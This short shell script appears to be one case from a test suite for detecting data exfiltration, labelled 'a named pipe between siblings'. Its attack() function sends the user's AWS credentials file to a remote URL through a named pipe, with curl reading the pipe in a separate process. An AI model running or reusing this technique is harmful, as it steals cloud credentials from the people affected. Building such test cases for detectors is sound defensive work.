# SPDX-License-Identifier: Apache-2.0
TITLE="a named pipe between siblings"
ROW="I02 E15"
attack() {
	mkfifo f
	curl -s -m 5 --data-binary @f "$URL/" &
	sleep 0.3
	cat "$HOME/.aws/credentials" >f
	wait
}
